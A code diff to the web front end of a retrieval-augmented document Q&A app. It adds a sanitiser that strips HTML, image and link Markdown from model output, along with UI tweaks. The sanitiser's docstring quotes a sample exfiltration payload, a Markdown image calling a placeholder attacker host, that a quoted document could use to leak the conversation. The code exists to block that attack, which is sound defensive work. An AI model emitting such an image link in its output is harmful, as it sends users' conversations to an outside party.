@@ -37,6 +37,12 @@ window.__ragappCite = (event) => {
   trigger('cite', {ref: link.getAttribute('href').slice(6)});
 };
 document.addEventListener('click', window.__ragappCite, true);
+watch('value', () => {
+  // bring the highlighted span of the opened passage into view inside its scrolling box
+  const mark = element.querySelector('details[open] mark');
+  const box = mark && mark.closest('.rag-passage');
+  if (box) box.scrollTop = Math.max(0, mark.offsetTop - box.offsetTop - 24);
+});
 """
 
 CSS = """
@@ -44,7 +50,7 @@ CSS = """
 .rag-src.selected { border-color: var(--color-accent); box-shadow: 0 0 0 2px var(--color-accent-soft); }
 .rag-src summary { cursor: pointer; font-weight: 600; }
 .rag-src .meta { color: var(--body-text-color-subdued); font-size: 0.85em; margin: 4px 0; }
-.rag-passage { white-space: pre-wrap; line-height: 1.45; max-height: 22em; overflow-y: auto; }
+.rag-passage { white-space: pre-wrap; overflow-wrap: anywhere; line-height: 1.45; max-height: 22em; overflow-y: auto; }
 .rag-passage mark { background: #fde68a; color: inherit; padding: 0 1px; }
 .rag-bad { color: #b45309; }
 .rag-none { color: var(--body-text-color-subdued); }
@@ -64,13 +70,25 @@ def _label(p) -> str:
     return f"{p.source} p. {p.page}" if p.page else p.source
 
 
+_LINE_MARKUP = re.compile(r"^(\s{0,3})(#|=+\s*$|-{3,}\s*$|>)", re.M)
+
+
+def safe_markdown(text: str) -> str:
+    """Model or document text made safe to render: no HTML, and no Markdown that fetches or links
+    anything (a quoted document could hold ![](http://attacker/?data) to leak a conversation).
+    Headings, rules and block quotes of quoted documents are shown as plain text."""
+    text = html.escape(text, quote=False)
+    text = text.replace("![", "!\\[").replace("](", "]\\(")
+    return _LINE_MARKUP.sub(lambda m: m.group(1) + "\\" + m.group(2), text)
+
+
 def render_answer(answer: Answer, answer_id: str) -> str:
     """The final answer as Markdown: [n] become links to the source panel; abstentions and
     unsupported sentences are marked."""
     n_passages = len(answer.passages)
-    text = html.escape(answer.text, quote=False)
+    text = safe_markdown(answer.text)
     for sentence in answer.unsupported_sentences:
-        s = html.escape(sentence, quote=False)
+        s = safe_markdown(sentence)
         if s and s in text:
             text = text.replace(s, f"{s} <sup>⚠ not supported by its source</sup>", 1)
 
@@ -86,7 +104,7 @@ def render_answer(answer: Answer, answer_id: str) -> str:
         why = f"\n\n<small>Why: {html.escape(answer.reason)}</small>" if answer.reason else ""
         return f"⊘ **Not in your documents.** {text}{why}"
     if answer.mode == "extractive":
-        why = f" <small>({html.escape(answer.reason)})</small>" if answer.reason else ""
+        why = f" <small>— {html.escape(answer.reason)}</small>" if answer.reason else ""
         return f"**Quoted from your documents**{why}\n\n{text}"
     if answer.unsupported_sentences:
         k = len(answer.unsupported_sentences)
@@ -100,6 +118,7 @@ def plain_text(markdown: str) -> str:
     text = re.sub(r'<a href="#cite-[^"]*"[^>]*>(\[\d+\])</a>', r"\1", text)
     text = re.sub(r"^(⊘ \*\*Not in your documents\.\*\* |\*\*Quoted from your documents\*\*\s*)", "", text.strip())
     text = "\n".join(ln for ln in text.splitlines() if not ln.startswith("⚠"))
+    text = re.sub(r"\\([\[(#=>-])", r"\1", text)
     return html.unescape(text).strip()
 
 
@@ -186,7 +205,7 @@ class PageHandlers:
                                               gate=bool(gate))
             for item in stream:
                 if isinstance(item, str):
-                    yield item, gr.skip()
+                    yield safe_markdown(item), gr.skip()
                     continue
                 answer_id = self.service.remember(user, item)
                 rename = lambda n: self.service.display_name(user, n)  # noqa: E731
@@ -342,7 +361,7 @@ def build_demo(service: RagService) -> gr.Blocks:
                 sources = gr.HTML(PANEL_EMPTY, js_on_load=CITE_JS, elem_id="sources", render=False)
                 gr.ChatInterface(
                     h.respond,
-                    chatbot=gr.Chatbot(elem_id="chat", height=560, buttons=["copy", "copy_all"], feedback_options=None,
+                    chatbot=gr.Chatbot(elem_id="chat", height=620, buttons=["copy", "copy_all"], feedback_options=None,
                                        placeholder="Ask a question about your documents."),
                     textbox=gr.Textbox(placeholder="Ask about your documents…", elem_id="question", submit_btn=True,
                                        stop_btn=True),
